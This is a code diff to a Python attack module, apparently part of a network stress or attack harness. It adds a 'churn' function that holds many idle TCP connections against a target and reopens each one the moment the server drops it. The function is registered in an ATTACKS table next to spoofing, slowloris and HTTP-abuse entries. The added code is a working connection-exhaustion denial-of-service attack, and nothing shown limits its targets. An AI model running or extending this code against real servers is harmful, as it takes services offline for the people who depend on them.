@@ -146,6 +146,44 @@ def slowloris(dst, port, conns, seconds, sources=""):
     return {"opened": opened, "still_open": alive}
 
 
+def churn(dst, port, conns, seconds):
+    """`conns` idle TCP connections that never send a byte, each reopened
+    as soon as the server closes it (issue 29, item 9)."""
+    _raise_nofile(conns)
+
+    def open_one():
+        c = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        try:
+            c.connect((dst, port))
+        except OSError:
+            c.close()
+            return None
+        c.setblocking(False)
+        return c
+    socks = [open_one() for _ in range(conns)]
+    reopened = 0
+    end = time.monotonic() + seconds
+    while time.monotonic() < end:
+        for i, c in enumerate(socks):
+            closed = c is None
+            if c is not None:
+                try:
+                    closed = c.recv(4096) == b""
+                except BlockingIOError:
+                    pass
+                except OSError:
+                    closed = True
+            if closed:
+                if c is not None:
+                    c.close()
+                socks[i] = open_one()
+                reopened += 1
+    for c in socks:
+        if c is not None:
+            c.close()
+    return {"opened": conns, "reopened": reopened, "rate": reopened / seconds}
+
+
 def _http(dst, port, raw, timeout=3.0):
     c = socket.create_connection((dst, port), timeout=timeout)
     c.sendall(raw)
@@ -244,6 +282,7 @@ ATTACKS = {
     "spoof": lambda a: spoof(a[0], a[1], a[2], int(a[3]), int(a[4]), int(a[5]), float(a[6])),
     "slowloris": lambda a: slowloris(a[0], int(a[1]), int(a[2]), float(a[3]), a[4] if len(a) > 4 else ""),
     "http": lambda a: http_abuse(a[0], int(a[1]), float(a[2])),
+    "churn": lambda a: churn(a[0], int(a[1]), int(a[2]), float(a[3])),
     "replies": lambda a: replies(a[0], int(a[1]), int(a[2])),
 }
 
